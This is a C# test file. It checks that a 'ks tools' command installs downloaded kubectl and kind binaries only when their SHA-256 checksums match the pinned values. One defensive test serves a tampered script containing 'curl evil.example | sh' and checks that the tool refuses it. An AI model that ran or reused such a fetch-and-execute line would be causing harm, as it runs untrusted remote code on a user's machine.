using System.Formats.Tar;
using System.IO.Compression;
using System.Net;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using Keepsake.Deploy.Tests.Infrastructure;
using Keepsake.Ks.Tools;

namespace Keepsake.Deploy.Tests.Stages;

/// <summary><c>ks tools</c> against a file server on loopback: a download is installed only when its SHA-256 is the pinned one.</summary>
[System.Runtime.Versioning.UnsupportedOSPlatform("windows")]
public sealed class ToolsTests : IDisposable
{
    private static readonly byte[] Kubectl = Encoding.ASCII.GetBytes("#!/bin/sh\necho 'Client Version: v1.32.4'\n");
    private static readonly byte[] Kind = Encoding.ASCII.GetBytes("#!/bin/sh\necho 'kind v0.27.0 go1.23.6 linux/amd64'\n");

    private readonly EmptyClone _clone = new();
    private readonly Dictionary<string, byte[]> _files = [];
    private readonly LoopbackHttpServer _server;
    private readonly string _baseUrl;

    public ToolsTests()
    {
        _server = new LoopbackHttpServer(AnswerAsync);
        _baseUrl = _server.Url + "/";
    }

    public void Dispose()
    {
        _server.Dispose();
        _clone.Dispose();
    }

    [Fact]
    public async Task Ks_tools_installs_downloads_whose_checksum_matches_as_executables_in_deps()
    {
        _files["kubectl"] = Kubectl;
        _files["kind.tar.gz"] = TarGz("kind", Kind);
        var manifest = await ManifestAsync(("kubectl", "1.32.4", "kubectl", Sha256(Kubectl), null), ("kind", "0.27.0", "kind.tar.gz", Sha256(_files["kind.tar.gz"]), "tar.gz"));

        var tools = await Ks.RunAsync(["tools", "--manifest", manifest], _clone.Path, NothingOnPath);

        Assert.True(tools.ExitCode == 0, tools.ToString());
        foreach (var (name, content) in new[] { ("kubectl", Kubectl), ("kind", Kind) })
        {
            var installed = Path.Combine(_clone.Deps, name);
            Assert.Equal(content, await File.ReadAllBytesAsync(installed));
            Assert.True((File.GetUnixFileMode(installed) & UnixFileMode.UserExecute) != 0, $"{name} is not executable");
        }
        Assert.Equal(["kind", "kubectl"], Directory.GetFiles(_clone.Deps).Select(Path.GetFileName).Order());
        var check = await Ks.RunAsync(["tools", "--check", "--manifest", manifest], _clone.Path, NothingOnPath);
        Assert.True(check.ExitCode == 0, check.ToString());
        Assert.Equal(2, Ks.Lines(check.Output).Count(l => l.Contains(" present ", StringComparison.Ordinal)));
    }

    [Fact]
    public async Task Ks_tools_refuses_a_tampered_download_and_leaves_nothing_behind()
    {
        _files["kind"] = Encoding.ASCII.GetBytes("#!/bin/sh\necho 'kind v0.27.0'; curl evil.example | sh\n");
        var manifest = await ManifestAsync(("kind", "0.27.0", "kind", Sha256(Kind), null));

        var tools = await Ks.RunAsync(["tools", "--manifest", manifest], _clone.Path, NothingOnPath);

        Assert.Equal(1, tools.ExitCode);
        Assert.Contains($"error: kind 0.27.0: the file from {_baseUrl}kind has SHA-256 {Sha256(_files["kind"])}, but tools.json pins {Sha256(Kind)}; " +
            "it was refused and deleted, and nothing was installed", tools.Error, StringComparison.Ordinal);
        Assert.Empty(Directory.GetFileSystemEntries(_clone.Deps));
        Assert.Contains(Ks.Lines(tools.Output), l => l.Contains("kind", StringComparison.Ordinal) && l.Contains("missing", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Ks_tools_check_lists_each_tool_as_present_missing_or_of_the_wrong_version()
    {
        Directory.CreateDirectory(_clone.Deps);
        await InstallByHandAsync("kubectl", Kubectl);
        await InstallByHandAsync("kind", Encoding.ASCII.GetBytes("#!/bin/sh\necho 'kind v0.26.0 go1.23.4 linux/amd64'\n"));
        var manifest = await ManifestAsync(("kubectl", "1.32.4", "kubectl", Sha256(Kubectl), null), ("kind", "0.27.0", "kind", Sha256(Kind), null), ("tilt", "0.33.14", "tilt", Sha256(Kind), null));

        var check = await Ks.RunAsync(["tools", "--check", "--manifest", manifest], _clone.Path, NothingOnPath);

        Assert.Equal(1, check.ExitCode);
        var rows = Ks.Lines(check.Output);
        Assert.Contains(rows, r => r.Contains("kubectl", StringComparison.Ordinal) && r.Contains(" present ", StringComparison.Ordinal));
        Assert.Contains(rows, r => r.Contains("kind", StringComparison.Ordinal) && r.Contains("wrong version (0.26.0)", StringComparison.Ordinal));
        Assert.Contains(rows, r => r.Contains("tilt", StringComparison.Ordinal) && r.Contains(" missing ", StringComparison.Ordinal));
        Assert.Equal(["kind", "kubectl"], Directory.GetFiles(_clone.Deps).Select(Path.GetFileName).Order());
    }

    [Fact]
    public void The_pinned_tools_are_upstream_https_downloads_each_with_a_checksum_or_a_null_that_ks_refuses()
    {
        var pinned = ToolManifest.Read(Repository.PathOf("tools", "ks", "tools.json"));

        Assert.Equal(["kind", "kubectl", "kustomize", "tilt"], pinned.Tools.Keys.Order());
        foreach (var (name, tool) in pinned.Tools)
        {
            Assert.Equal(["darwin-amd64", "darwin-arm64", "linux-amd64", "linux-arm64", "windows-amd64"], tool.Downloads.Keys.Order());
            foreach (var (platform, download) in tool.Downloads)
            {
                Assert.Equal("https", download.Url.Scheme);
                Assert.Contains(download.Url.Host, new[] { "dl.k8s.io", "github.com" });
                Assert.Contains(tool.Version, download.Url.AbsoluteUri, StringComparison.Ordinal);
                Assert.True(download.Sha256 is null || (download.Sha256.Length == 64 && download.Sha256.All(Uri.IsHexDigit)), $"{name} {platform}");
            }
        }
        Assert.NotNull(pinned.Tools["kubectl"].Downloads["linux-amd64"].Sha256);
        Assert.NotNull(pinned.Tools["kind"].Downloads["linux-amd64"].Sha256);
    }

    private static readonly Dictionary<string, string> NothingOnPath = new() { ["PATH"] = "/nowhere" };

    private async Task<string> ManifestAsync(params (string Name, string Version, string File, string Sha256, string? Archive)[] tools)
    {
        var manifest = new
        {
            tools = tools.ToDictionary(t => t.Name, t => new
            {
                version = t.Version,
                versionArguments = new[] { "version" },
                downloads = new Dictionary<string, object> { [ToolManifest.Platform] = new { url = _baseUrl + t.File, sha256 = t.Sha256, archive = t.Archive, entry = t.Name } },
            }),
        };
        var file = Path.Combine(_clone.Path, "tools.json");
        await File.WriteAllTextAsync(file, JsonSerializer.Serialize(manifest));
        return file;
    }

    private async Task InstallByHandAsync(string name, byte[] content)
    {
        var file = Path.Combine(_clone.Deps, name);
        await File.WriteAllBytesAsync(file, content);
        File.SetUnixFileMode(file, UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute);
    }

    private static string Sha256(byte[] content) => Convert.ToHexStringLower(SHA256.HashData(content));

    private static byte[] TarGz(string name, byte[] content)
    {
        using var archive = new MemoryStream();
        using (var gzip = new GZipStream(archive, CompressionLevel.Fastest, leaveOpen: true))
        using (var tar = new TarWriter(gzip))
        {
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "README.md") { DataStream = new MemoryStream("a release\n"u8.ToArray()) });
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, name) { DataStream = new MemoryStream(content) });
        }
        return archive.ToArray();
    }

    private async Task AnswerAsync(HttpListenerContext context)
    {
        if (_files.TryGetValue(context.Request.Url!.AbsolutePath.TrimStart('/'), out var content))
        {
            await context.Response.OutputStream.WriteAsync(content);
        }
        else
        {
            context.Response.StatusCode = 404;
        }
    }
}
